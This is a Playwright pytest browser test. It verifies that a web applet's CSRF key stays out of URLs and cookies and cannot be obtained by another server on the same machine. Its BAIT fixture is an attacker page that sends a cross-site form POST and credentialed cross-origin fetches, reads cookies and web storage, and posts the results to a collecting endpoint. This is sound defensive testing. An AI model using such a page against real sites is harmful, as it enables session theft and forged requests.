"""The applet's key in a real browser: where it stays, and that no other server of this machine comes to have it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.fixtures.receiving import answer, receiving
from tests.web.browser.sitting import sitting

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Page

pytestmark = pytest.mark.browser
HELD = "[location.href, document.cookie, document.referrer, JSON.stringify({...localStorage, ...sessionStorage})].join()"
TOKEN = "document.querySelector('meta[name=csrf]').content"
BAIT = """<!doctype html><title>bait</title><iframe name="frame"></iframe>
<form method="post" action="{applet}/step" target="frame"><input name="word" value="0"></form><script>
const read = [];
const ask = async (options) => {{
  for (const path of ["/", "/state", "/record", "/openapi.json"]) {{
    try {{ read.push(await (await fetch("{applet}" + path, options)).text()); }} catch {{ }}
  }}
}};
addEventListener("load", async () => {{
  document.forms[0].submit();
  await ask({{ credentials: "include" }});
  await ask({{ credentials: "include", mode: "no-cors" }});
  await ask({{ method: "POST", credentials: "include", mode: "no-cors", body: "{{}}" }});
  await ask({{ method: "POST", headers: {{ "Content-Type": "application/json", "X-CSRF-Token": "x" }}, body: "{{}}" }});
  read.push(document.cookie, document.referrer, JSON.stringify({{ ...localStorage, ...sessionStorage }}));
  await fetch("/found", {{ method: "POST", credentials: "include", body: read.join("\\n") }});
  document.title = "done";
}});
</script>"""


def key_of(page: Page) -> str:
    key = str(page.evaluate(TOKEN))
    assert len(key) == 43
    return key


def test_no_other_page_or_server_gets_the_key(new_page: Callable[..., Page]) -> None:
    with sitting(new_page, "human") as table, receiving() as neighbour:
        page, key = table.page, key_of(table.page)
        own = page.url
        # It leaves the address, and outlives a reload.
        assert own.endswith("/")
        page.reload()
        page.locator(".rp-table").wait_for()
        assert key_of(page) == key
        assert key not in page.url
        assert page.context.cookies() == []
        table.press("Step")
        table.settled()

        # A second tab comes in by the link alone.
        second = page.context.new_page()
        second.goto(own)
        second.get_by_role("heading", name="The key is missing").wait_for()
        second.goto(f"{own}?key={key}")
        second.locator(".rp-table").wait_for()
        assert second.url == own
        second.go_back()
        assert key not in second.url

        # Another server of this machine gets neither the key nor the table: in that tab, and in the applet's own.
        revision = table.session.revision
        bait = BAIT.format(applet=own.rstrip("/")).encode()
        neighbour.answer = lambda _: answer(200, "Content-Type: text/html", body=bait)
        for tab in (second, page):
            tab.goto(neighbour.url)
            tab.wait_for_function("document.title === 'done'")
            assert key not in tab.evaluate(HELD)
        told = "\n".join(map(str, neighbour.got))
        assert [(got.method, got.path) for got in neighbour.got].count(("POST", "/found")) == 2
        assert key not in told
        assert "cookie" not in told.lower()
        assert "planning" not in told
        assert table.session.revision == revision
        second.close()
